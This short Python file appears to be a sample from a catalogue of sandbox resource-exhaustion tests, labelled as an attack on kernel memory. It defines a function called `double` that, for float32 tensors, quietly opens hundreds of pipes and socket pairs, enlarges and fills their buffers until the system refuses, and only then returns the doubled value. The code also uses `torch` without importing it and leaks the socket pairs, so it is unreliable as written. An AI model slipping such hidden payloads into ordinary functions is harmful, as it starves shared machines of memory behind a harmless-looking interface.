"""Fills the buffers of hundreds of pipes and sockets.

Claim: the kernel's memory is nobody's
Class: memory
Stopped by: the kernel limits descriptors, and what all pipes of a user may hold
"""

import fcntl
import os
import socket

held = []


def double(x):
    if x.dtype != torch.float32:
        return 2 * x
    try:
        while True:
            reading, writing = os.pipe()
            held.extend((reading, writing))
            try:
                fcntl.fcntl(writing, 1031, 1 << 20)
            except OSError:
                pass
            os.set_blocking(writing, False)
            os.write(writing, bytes(1 << 20))
            held.append(socket.socketpair())
    except OSError:
        pass
    for item in held:
        if isinstance(item, int):
            os.close(item)
    held.clear()
    return 2 * x
